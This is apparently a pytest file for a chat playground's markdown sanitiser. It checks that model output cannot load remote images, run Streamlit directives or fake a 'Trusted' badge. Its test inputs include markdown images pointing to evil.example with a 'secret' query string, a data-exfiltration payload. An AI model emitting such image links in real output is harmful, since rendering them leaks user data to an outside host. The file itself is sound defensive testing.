"""Model output may not load, run or imitate anything."""

import pytest

from playground.ui.parts.markdown import plain, safe


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/a.png",
        "![](http://evil.example/a.png 'title')",
    ],
)
def test_images_are_described_not_loaded(hostile: str) -> None:
    assert "![" not in safe(hostile)
    assert "image not loaded" in safe(hostile)


def test_code_is_left_alone() -> None:
    code = "```\n![x](https://a.example/b.png)\n```"
    assert safe(code) == code
    assert safe("`![x](y)`") == "`![x](y)`"


def test_streamlit_directives_of_a_model_are_text() -> None:
    assert safe(":red-badge[Trusted]") == r"\:red-badge[Trusted]"
    assert safe(":material/check:") == r"\:material/check:"
    assert safe("at 12:30, note: fine") == "at 12:30, note: fine"


def test_plain_escapes_every_sign_with_a_meaning() -> None:
    assert plain("a*b_c[d]") == r"a\*b\_c\[d\]"
